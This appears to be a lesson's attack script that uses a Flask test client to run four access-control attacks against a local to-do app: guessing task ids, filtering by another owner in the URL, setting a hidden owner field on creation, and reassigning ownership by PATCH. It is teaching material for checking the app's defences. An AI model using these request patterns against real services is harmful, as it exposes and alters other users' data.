"""Attacks of lesson 5, tried on app.py. The attacker has an account, ada, and a valid token."""

from app import app

ada = app.test_client()
token = ada.post("/login", json={"username": "ada", "password": "analytical engine"}).json["token"]
ada.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {token}"


def guess_ids():
    """Request one id after the other, and read the tasks of others."""
    responses = [ada.get(f"/tasks/{number}") for number in range(1, 20)]
    return any(response.status_code == 200 and response.json["owner"] != "ada" for response in responses)


def name_other_owner():
    """Ask for the list of another user by the URL."""
    return any(task["owner"] == "grace" for task in ada.get("/tasks?owner=grace").json)


def write_into_other_account():
    """Add a task to the list of another user, by a field that no form shows."""
    return ada.post("/tasks", json={"title": "Transfer 500 to ada", "owner": "grace"}).json["owner"] == "grace"


def take_over_task():
    """Change the owner of another user's task."""
    response = ada.patch("/tasks/1", json={"title": "Call the bank", "owner": "ada"})
    return response.status_code == 200 and response.json["owner"] == "ada"


for attack in (guess_ids, name_other_owner, write_into_other_account, take_over_task):
    print(f"{attack.__name__}: {'succeeds' if attack() else 'fails'}")
